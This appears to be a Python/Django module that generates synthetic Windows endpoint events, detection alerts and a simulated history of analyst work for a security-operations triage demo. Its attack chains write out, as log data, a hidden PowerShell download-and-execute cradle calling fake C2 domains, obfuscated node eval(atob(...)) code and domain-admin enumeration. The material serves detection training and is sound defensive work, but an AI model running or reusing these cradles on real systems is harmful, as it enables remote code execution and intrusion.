"""The demo data set: endpoint events for a small company, alerts raised from them by the real
detection pipeline, and a realistic past of analyst work on those alerts.

- **Events.** Eight Windows hosts with benign background activity (logon shell, browsers,
  Office, Teams, service hosts, a management agent running PowerShell, developers running
  node from Program Files) and, among them, attack chains that the three seed rules catch:
  a script from a mail attachment starting PowerShell with an encoded download cradle
  (``wscript/mshta → powershell/cmd``), node.exe dropped in AppData running obfuscated
  JavaScript (``eval(atob(...))``), and a browser download of a ``.js``/``.hta`` file opened
  from Explorer within seconds (a sequence). Process entity ids link parents and children, so
  the process tree and host timeline have something to show.
- **Alerts** are raised by ``rules.detection.detect_new_events`` run in-process, chain by
  chain, with the chain's time as "now" (so queue ages and SLA clocks look real). Should the
  engine miss a chain, the alert is created directly with the same idempotency key.
- **Work.** The alerts of each rule are walked through every state with ``triage.services``
  (claimed, answered, escalated or closed, claimed by T2, accepted, containment, closed, one
  returned to L1, one bulk-closed duplicate, one false positive), each step at a plausible
  past time, so the history and the manager's metrics have real rows.

Deterministic for a seed, relative to the time it runs. Idempotent: events are keyed by
``event.id``, alerts by their key; only alerts created by this run are walked.
"""

from __future__ import annotations

import base64
import random
from dataclasses import dataclass, field
from datetime import datetime, timedelta

from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.db import transaction
from django.utils import timezone

from triage import services
from triage.models import Alert, Status, alert_key
from triage.playbook_format import YES_NO_UNKNOWN
from triage.recommendation import recommend

SEED = 1059
RULE_SCRIPTS = "2d62889e-e758-4c5e-b57e-c735914ee32a"  # via Windows Scripts
RULE_NODE = "55f711c1-6b4d-4787-930d-c9317a885adf"  # Suspicious Execution with NodeJS
RULE_DOWNLOAD = "79543b00-28a5-4461-81ac-644c4dc4012f"  # Execution of a Downloaded Windows Script

HOSTS = (
    ("WS-FIN-07", "ana.rodriguez"),
    ("WS-HR-02", "li.wang"),
    ("WS-ENG-11", "tomas.kral"),
    ("WS-SALES-04", "priya.nair"),
    ("WS-MKT-09", "omar.haddad"),
    ("WS-LEGAL-03", "ines.moreau"),
    ("WS-OPS-05", "marek.zielinski"),
    ("SRV-APP-01", "svc_deploy"),
)
ANALYSTS = {"l1": ("jordan.l1", "sam.l1"), "t2": ("riley.t2",)}
CHAINS_PER_RULE = 10
SYS32 = "C:\\Windows\\System32\\"


def _sid(user: str) -> str:
    return "S-1-5-21-3623811015-3361044348-30300820-" + str(1100 + sum(map(ord, user)) % 800)


@dataclass
class Proc:
    host: str
    user: str
    name: str
    executable: str
    args: list[str]
    pid: int
    entity_id: str
    parent: Proc | None = None


@dataclass
class Builder:
    rng: random.Random
    events: list[dict] = field(default_factory=list)
    counter: int = 0

    def _base(self, host: str, user: str, when: datetime, category: str, type_: str, action: str):
        self.counter += 1
        return {
            "@timestamp": when.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
            "event": {
                "id": f"demo-{SEED}-{self.counter:06d}",
                "kind": "event",
                "category": [category],
                "type": [type_],
                "action": action,
                "dataset": "endpoint.events." + category,
                "module": "endpoint",
            },
            "agent": {"type": "endpoint"},
            "host": {
                "name": host,
                "hostname": host.lower(),
                "id": f"hid-{host.lower()}",
                "os": {"type": "windows", "family": "windows", "name": "Windows 11 Pro"},
            },
            "user": {
                "name": user,
                "id": "S-1-5-18" if user == "SYSTEM" else _sid(user),
                "domain": "NT AUTHORITY" if user == "SYSTEM" else "CORP",
            },
        }

    def start(
        self, host, user, when, name, args, parent: Proc | None, executable=None, extra=None
    ) -> Proc:
        pid = self.rng.randint(1200, 65000) // 4 * 4
        executable = executable or SYS32 + name
        proc = Proc(host, user, name, executable, [executable, *args], pid, "", parent)
        proc.entity_id = f"{host.lower()}-{pid}-{self.counter + 1:06d}"
        doc = self._base(host, user, when, "process", "start", "start")
        process = {
            "name": name,
            "pid": pid,
            "entity_id": proc.entity_id,
            "executable": executable,
            "args": proc.args,
            "args_count": len(proc.args),
            "command_line": " ".join(_quote(a) for a in proc.args),
            "working_directory": f"C:\\Users\\{user}",
        }
        if parent is not None:
            process["parent"] = {
                "name": parent.name,
                "pid": parent.pid,
                "entity_id": parent.entity_id,
                "executable": parent.executable,
                "args": parent.args,
                "args_count": len(parent.args),
                "command_line": " ".join(_quote(a) for a in parent.args),
            }
        process.update(extra or {})
        doc["process"] = process
        self.events.append(doc)
        return proc

    def file(self, proc: Proc, when, path: str, origin_url=None, referrer=None):
        doc = self._base(proc.host, proc.user, when, "file", "creation", "creation")
        name = path.rsplit("\\", 1)[-1]
        doc["file"] = {"path": path, "name": name, "extension": name.rsplit(".", 1)[-1]}
        if origin_url:
            doc["file"]["origin_url"] = origin_url
        if referrer:
            doc["file"]["origin_referrer_url"] = referrer
        doc["process"] = {"name": proc.name, "pid": proc.pid, "entity_id": proc.entity_id}
        self.events.append(doc)

    def connect(self, proc: Proc, when, ip: str, port: int, domain: str | None = None):
        doc = self._base(
            proc.host, proc.user, when, "network", "connection", "connection_attempted"
        )
        doc["destination"] = {"ip": ip, "port": port, **({"domain": domain} if domain else {})}
        doc["process"] = {"name": proc.name, "pid": proc.pid, "entity_id": proc.entity_id}
        self.events.append(doc)


def _quote(arg: str) -> str:
    return f'"{arg}"' if " " in arg else arg


def _ps_encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16le")).decode()


# --- background ---------------------------------------------------------------------------


def background(b: Builder, host: str, user: str, start: datetime, hours: int) -> None:
    rng = b.rng
    userinit = Proc(host, user, "userinit.exe", SYS32 + "userinit.exe", [], 812, f"{host}-ui", None)
    explorer = b.start(host, user, start, "explorer.exe", [], userinit, "C:\\Windows\\explorer.exe")
    services_exe = Proc(
        host, "SYSTEM", "services.exe", SYS32 + "services.exe", [], 700, f"{host}-svc"
    )
    for hour in range(hours):
        t = start + timedelta(hours=hour, minutes=rng.randint(0, 50))
        choice = rng.random()
        if choice < 0.3:
            chrome = b.start(
                host, user, t, "chrome.exe", ["https://mail.example.com/"], explorer,
                "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            )  # fmt: skip
            b.connect(chrome, t + timedelta(seconds=2), "142.250.74.101", 443, "mail.example.com")
        elif choice < 0.5:
            b.start(
                host, user, t, "WINWORD.EXE", ["/n", f"C:\\Users\\{user}\\Documents\\Q3 report.docx"],
                explorer, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            )  # fmt: skip
        elif choice < 0.65:
            b.start(
                host,
                "SYSTEM",
                t,
                "svchost.exe",
                ["-k", "netsvcs", "-p", "-s", "Schedule"],
                services_exe,
            )
        elif choice < 0.75:
            b.start(
                host, user, t, "ms-teams.exe", ["--system-initiated"], explorer,
                f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\WindowsApps\\ms-teams.exe",
            )  # fmt: skip
        elif choice < 0.85:
            ccm = b.start(
                host, "SYSTEM", t, "CcmExec.exe", [], services_exe, "C:\\Windows\\CCM\\CcmExec.exe"
            )
            b.start(
                host, "SYSTEM", t + timedelta(seconds=3), "powershell.exe",
                ["-NoLogo", "-NonInteractive", "-ExecutionPolicy", "Bypass", "-File",
                 "C:\\Windows\\CCM\\SystemTemp\\inventory.ps1"], ccm,
                SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
            )  # fmt: skip
        elif choice < 0.92:
            # A developer's node from Program Files running a build: a near miss for the rule.
            b.start(
                host, user, t, "node.exe", ["C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js", "run", "build"],
                explorer, "C:\\Program Files\\nodejs\\node.exe",
            )  # fmt: skip
        else:
            cmd = b.start(host, user, t, "cmd.exe", ["/c", "ipconfig", "/all"], explorer)
            b.start(host, user, t + timedelta(seconds=1), "ipconfig.exe", ["/all"], cmd)


# --- attack chains ------------------------------------------------------------------------

LURES = (
    "invoice_88213.js",
    "Payment_Advice.js",
    "scan_0042.vbs",
    "DHL_delivery.js",
    "order-77.hta",
)
C2 = (
    ("185.220.101.47", "cdn-update.net"),
    ("45.133.1.20", "files-share.top"),
    ("91.92.109.14", "msupdate-cache.com"),
)


def chain_windows_script(b: Builder, host, user, t, variant: int) -> None:
    """wscript/mshta running a lure from the user's folder, starting PowerShell or cmd."""
    rng = b.rng
    explorer = b.start(
        host, user, t - timedelta(minutes=30), "explorer.exe", [], None, "C:\\Windows\\explorer.exe"
    )
    lure = LURES[variant % len(LURES)]
    host_exe = "mshta.exe" if lure.endswith(".hta") else "wscript.exe"
    script_host = b.start(
        host, user, t, host_exe, [f"C:\\Users\\{user}\\Downloads\\{lure}"], explorer
    )
    ip, domain = C2[variant % len(C2)]
    cradle = f"IEX (New-Object Net.WebClient).DownloadString('http://{domain}/s/{rng.randint(1000, 9999)}.ps1')"
    if variant % 3 == 2:
        child = b.start(
            host, user, t + timedelta(seconds=2), "cmd.exe",
            ["/c", f"powershell -nop -w hidden -c \"{cradle}\""], script_host,
        )  # fmt: skip
    else:
        child = b.start(
            host, user, t + timedelta(seconds=2), "powershell.exe",
            ["-nop", "-w", "hidden", "-ep", "bypass", "-enc", _ps_encoded(cradle)], script_host,
            SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
        )  # fmt: skip
    b.connect(child, t + timedelta(seconds=4), ip, 80, domain)
    b.start(host, user, t + timedelta(seconds=9), "whoami.exe", ["/all"], child)
    if variant % 2 == 0:
        b.start(
            host,
            user,
            t + timedelta(seconds=15),
            "net.exe",
            ["group", "domain admins", "/domain"],
            child,
        )
        b.file(
            child, t + timedelta(seconds=20), f"C:\\Users\\{user}\\AppData\\Roaming\\upd\\svc.dll"
        )


def chain_node(b: Builder, host, user, t, variant: int) -> None:
    """node.exe dropped in AppData running obfuscated JavaScript."""
    explorer = b.start(
        host, user, t - timedelta(minutes=20), "explorer.exe", [], None, "C:\\Windows\\explorer.exe"
    )
    node_exe = f"C:\\Users\\{user}\\AppData\\Local\\Temp\\nodejs{variant}\\node.exe"
    payload = base64.b64encode(
        b"require('child_process').exec('cmd /c whoami > %TEMP%\\\\o.txt')"
    ).decode()
    if variant % 2:
        args = ["-e", f"eval(Buffer.from(atob('{payload}')).toString())"]
        parent = b.start(
            host,
            user,
            t - timedelta(seconds=3),
            "cmd.exe",
            ["/c", "start", "/min", "run.cmd"],
            explorer,
        )
    else:
        args = [f"C:\\Users\\{user}\\AppData\\Local\\Temp\\nodejs{variant}\\app.js"]
        parent = b.start(
            host,
            user,
            t - timedelta(seconds=3),
            "wscript.exe",
            [f"C:\\Users\\{user}\\Downloads\\setup.js"],
            explorer,
        )
    node = b.start(host, user, t, "node.exe", args, parent, node_exe)
    b.start(
        host,
        user,
        t + timedelta(seconds=2),
        "cmd.exe",
        ["/c", "whoami", ">", "%TEMP%\\o.txt"],
        node,
    )
    ip, domain = C2[(variant + 1) % len(C2)]
    b.connect(node, t + timedelta(seconds=5), ip, 443, domain)


def chain_download(b: Builder, host, user, t, variant: int) -> None:
    """A browser saves a script with its origin URL; the user opens it from Explorer."""
    explorer = b.start(
        host, user, t - timedelta(minutes=10), "explorer.exe", [], None, "C:\\Windows\\explorer.exe"
    )
    browser = b.start(
        host, user, t - timedelta(minutes=2), "msedge.exe", ["--single-argument", "https://outlook.office.com/"],
        explorer, "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
    )  # fmt: skip
    lure = LURES[(variant + 2) % len(LURES)]
    _ip, domain = C2[variant % len(C2)]
    path = f"C:\\Users\\{user}\\Downloads\\{lure}"
    b.file(
        browser,
        t - timedelta(seconds=40),
        path,
        f"https://{domain}/d/{lure}",
        "https://outlook.office.com/",
    )
    runner = "mshta.exe" if lure.endswith(".hta") else "wscript.exe"
    script = b.start(host, user, t, runner, [path], explorer)
    if variant % 2:
        b.start(
            host,
            user,
            t + timedelta(seconds=3),
            "cmd.exe",
            ["/c", "copy", path, "%APPDATA%\\m.js"],
            script,
        )


RULE_CHAINS = {
    RULE_SCRIPTS: chain_windows_script,
    RULE_NODE: chain_node,
    RULE_DOWNLOAD: chain_download,
}


# --- storing and detecting -----------------------------------------------------------------


def store(docs: list[dict]) -> list[int]:
    """Insert the events not already stored; returns the pks of those inserted now."""
    from rules.models import Event
    from rules.store import event_row

    rows = [event_row(doc) for doc in docs]
    ids = [row.event_id for row in rows]
    existing = set(Event.objects.filter(event_id__in=ids).values_list("event_id", flat=True))
    new = [
        Event(doc=doc, **row.columns)
        for doc, row in zip(docs, rows, strict=True)
        if row.event_id not in existing
    ]
    Event.objects.bulk_create(new, batch_size=500)
    return list(
        Event.objects.filter(event_id__in=[e.event_id for e in new]).values_list("pk", flat=True)
    )


def detect(rule, docs: list[dict], pks: list[int], when: datetime) -> list[Alert]:
    """Run detection over the chain's new events; the rule's alerts over these events."""
    from rules import detection

    if pks:
        with services.clock(when):  # the "raised" history rows get the chain's time too
            detection.detect_new_events(pks, now=when)
    ids = {d["event"]["id"] for d in docs}
    alerts = [
        a
        for a in Alert.objects.filter(rule=rule, host_name=docs[0]["host"]["name"])
        if ids.intersection(a.event_ids)
    ]
    return alerts


def create_directly(rule, docs: list[dict], when: datetime) -> Alert | None:
    """The fallback when the engine raised nothing: the rule's last matching process event."""
    candidates = [d for d in docs if d["event"]["category"] == ["process"]]
    if not candidates:
        return None
    doc = candidates[1] if len(candidates) > 1 else candidates[0]
    key = alert_key(rule.rule_id, [doc["event"]["id"]])
    alert, created = Alert.objects.get_or_create(
        key=key,
        defaults={
            "rule": rule,
            "rule_version": rule.version,
            "rule_name": rule.name,
            "severity": rule.severity,
            "risk_score": rule.risk_score,
            "timestamp": when,
            "created_at": when,
            "host_name": doc["host"]["name"],
            "host_id": doc["host"]["id"],
            "user_name": doc["user"]["name"],
            "user_id": doc["user"]["id"],
            "event_ids": [doc["event"]["id"]],
            "event_snapshot": [doc],
            "sla_due_at": when + timedelta(hours=4),
        },
    )
    if created:
        alert.techniques.set(rule.techniques.all())
        with services.clock(when):
            services.record(alert, None, "raised", "", Status.NEW, rule_id=rule.rule_id)
    return alert


# --- the analysts' past ----------------------------------------------------------------------


def team() -> dict[str, list]:
    user_model = get_user_model()
    result: dict[str, list] = {}
    for role, names in ANALYSTS.items():
        group = Group.objects.get(name=role)
        result[role] = []
        for name in names:
            user, created = user_model.objects.get_or_create(username=name)
            if created:
                user.set_unusable_password()
                user.save()
            user.groups.add(group)
            result[role].append(user)
    return result


def answers_for(playbook, want: str) -> dict[str, str]:
    """Answers that make ``playbook`` recommend ``want`` ("escalate" or "close")."""
    yn = [q for q in playbook.questions if q.type == YES_NO_UNKNOWN]
    answers = {q.id: "no" for q in yn}
    answers.update(
        {
            q.id: "See the decoded command on the Events tab."
            for q in playbook.questions
            if q.type != YES_NO_UNKNOWN
        }
    )

    def score(candidate):
        rec = recommend(playbook, candidate)
        return (rec.decision != "close", len(rec.met_criteria))

    for _ in range(2):
        for q in yn:
            best = min(("no", "yes"), key=lambda v: score({**answers, q.id: v}))
            answers[q.id] = best
    if want == "escalate":
        for criterion in playbook.escalation.criteria:
            from triage.playbook_format import AnswerIs

            if isinstance(criterion.when, AnswerIs):
                answers[criterion.when.question] = criterion.when.answers[0]
                break
    return answers


class Walker:
    """Walks one alert through the workflow with the services, at plausible past times."""

    def __init__(self, alert: Alert, rng: random.Random, people: dict[str, list]):
        self.alert = alert
        self.rng = rng
        self.l1 = rng.choice(people["l1"])
        self.t2 = people["t2"][0]
        self.t = alert.created_at

    def later(self, low: int, high: int) -> datetime:
        self.t += timedelta(minutes=self.rng.randint(low, high), seconds=self.rng.randint(0, 59))
        return self.t

    def claim(self):
        with services.clock(self.later(3, 40)):
            services.claim(self.alert.pk, self.l1)

    def answer(self, want: str, count: int | None = None):
        triage = services.triage_of(Alert.objects.get(pk=self.alert.pk))
        playbook = triage.playbook_version.parsed()
        items = list(answers_for(playbook, want).items())[:count]
        for qid, value in items:
            with services.clock(self.later(0, 3)):
                services.answer(self.alert.pk, self.l1, qid, value)
        for step in playbook.l1_steps[: 2 if count is None else 1]:
            with services.clock(self.later(1, 6)):
                services.set_checklist_item(self.alert.pk, self.l1, "l1_steps", step.id, "done")
        return playbook

    def escalate(self):
        with services.clock(self.later(1, 5)):
            services.escalate(self.alert.pk, self.l1)

    def t2_claim(self):
        with services.clock(self.later(10, 90)):
            services.t2_claim(self.alert.pk, self.t2)

    def t2_actions(self, playbook, count: int):
        for action in playbook.t2_actions[:count]:
            with services.clock(self.later(5, 30)):
                services.set_checklist_item(
                    self.alert.pk, self.t2, "t2_actions", action.id, "done",
                    "", f"CASE-{self.alert.pk:04d}",
                )  # fmt: skip

    def contain(self, playbook, count: int | None = None):
        for i, item in enumerate(playbook.containment[:count]):
            state = "not_applicable" if i % 4 == 3 else "done"
            with services.clock(self.later(3, 25)):
                services.set_checklist_item(
                    self.alert.pk, self.t2, "containment", item.id, state,
                    "Not needed: no credentials were exposed." if state == "not_applicable" else "",
                    f"EDR-{self.rng.randint(10000, 99999)}",
                )  # fmt: skip


def walk(alert: Alert, index: int, rng: random.Random, people) -> str:
    """Give alert number ``index`` of its rule a past; returns the state it ends in."""
    w = Walker(alert, rng, people)
    if index == 0:  # the full journey: a true positive contained and closed by T2
        w.claim()
        playbook = w.answer("escalate")
        w.escalate()
        w.t2_claim()
        w.t2_actions(playbook, 3)
        with services.clock(w.later(5, 20)):
            services.t2_accept(alert.pk, w.t2, "Confirmed malicious: payload staged from C2.")
        w.contain(playbook)
        with services.clock(w.later(10, 60)):
            services.t2_close(
                alert.pk,
                w.t2,
                "true_positive",
                "Host isolated and cleaned, C2 blocked, password reset.",
            )
    elif index == 1:  # L1 closes with the recommendation
        w.claim()
        w.answer("close")
        with services.clock(w.later(2, 8)):
            services.close_l1(
                alert.pk,
                w.l1,
                "benign_true_positive",
                "IT-packaged script run by the deployment team (change CHG-2291).",
            )
    elif index == 2:  # containment in progress
        w.claim()
        playbook = w.answer("escalate")
        w.escalate()
        w.t2_claim()
        w.t2_actions(playbook, 2)
        with services.clock(w.later(5, 20)):
            services.t2_accept(alert.pk, w.t2)
        w.contain(playbook, 2)
    elif index == 3:  # T2 investigating
        w.claim()
        playbook = w.answer("escalate")
        w.escalate()
        w.t2_claim()
        w.t2_actions(playbook, 1)
    elif index == 4:  # escalated, waiting for T2 (escalated against a close: an override)
        w.claim()
        w.answer("close")
        with services.clock(w.later(1, 5)):
            services.escalate(
                alert.pk, w.l1, "Same user opened two other lures this week; want T2 eyes on it."
            )
    elif index == 5:  # L1 triage in progress
        w.claim()
        w.answer("escalate", count=3)
    elif index == 6:  # returned by T2 to the L1 who escalated it
        w.claim()
        w.answer("escalate", count=2)
        w.escalate()
        w.t2_claim()
        with services.clock(w.later(5, 15)):
            services.t2_return(
                alert.pk,
                w.t2,
                "Answer the follow-on activity question and attach the decoded command before escalating.",
            )
    elif index == 8:  # a false positive: the noisy-rule figures and exception proposals use it
        w.claim()
        w.answer("close")
        with services.clock(w.later(2, 10)):
            services.close_l1(
                alert.pk,
                w.l1,
                "false_positive",
                "Help-desk training lab host: the trainer runs this script every Tuesday.",
            )
    elif index == 7:  # a duplicate closed in bulk from the queue
        with services.clock(w.later(5, 30)):
            services.bulk_close(
                [alert.pk], w.l1, "duplicate", "Same lure and host as an alert already in triage."
            )
    return Alert.objects.get(pk=alert.pk).status


@dataclass
class Summary:
    events: int = 0
    alerts: int = 0
    direct: int = 0
    walked: dict[str, int] = field(default_factory=dict)


def load(*, seed: int = SEED, now: datetime | None = None, out=None) -> Summary:
    """Generate, store, detect and walk. Safe to run again (adds nothing the second time)."""
    from rules.models import DetectionRule

    now = now or timezone.now()
    rng = random.Random(seed)
    summary = Summary()
    rules = {r.rule_id: r for r in DetectionRule.objects.filter(rule_id__in=RULE_CHAINS)}
    missing = set(RULE_CHAINS) - set(rules)
    if missing:
        raise RuntimeError(
            "the seed rules are not imported (run `manage.py import_rules rules/library`): "
            + ", ".join(sorted(missing))
        )
    people = team()
    b = Builder(rng)
    # Background: three days of activity on every host, stored without detection (benign).
    start = (now - timedelta(days=3)).replace(minute=0, second=0, microsecond=0)
    for host, user in HOSTS:
        background(b, host, user, start, 72)
    with transaction.atomic():
        summary.events += len(store(b.events))
    # Chains: CHAINS_PER_RULE per rule, the walked ones older, the "new" ones recent.
    for rule_id, make_chain in RULE_CHAINS.items():
        rule = rules[rule_id]
        for i in range(CHAINS_PER_RULE):
            host, user = HOSTS[(i * 3 + len(rule_id)) % (len(HOSTS) - 1)]
            # Walked chains are old enough for their whole past to lie before ``now``.
            hours_ago = (
                70 - i * 7 if i < 7 else rng.uniform(4, 8) if i == 7 else rng.uniform(0.2, 3)
            )
            when = now - timedelta(hours=hours_ago, minutes=rng.randint(0, 40))
            b.events = []
            make_chain(b, host, user, when, i)
            with transaction.atomic():
                pks = store(b.events)
                summary.events += len(pks)
                if not pks:
                    continue  # stored by an earlier run: its alerts exist already
                alerts = detect(rule, b.events, pks, when + timedelta(minutes=1))
                if not alerts:
                    alert = create_directly(rule, b.events, when + timedelta(minutes=1))
                    alerts = [alert] if alert else []
                    summary.direct += len(alerts)
                summary.alerts += len(alerts)
                for alert in alerts[:1]:
                    if alert.status == Status.NEW and i < 9:
                        state = walk(alert, i, rng, people)
                        summary.walked[state] = summary.walked.get(state, 0) + 1
    # Other rules' alerts raised on the chains' events stay new (a realistic overlap).
    summary.alerts = Alert.objects.count()
    return summary
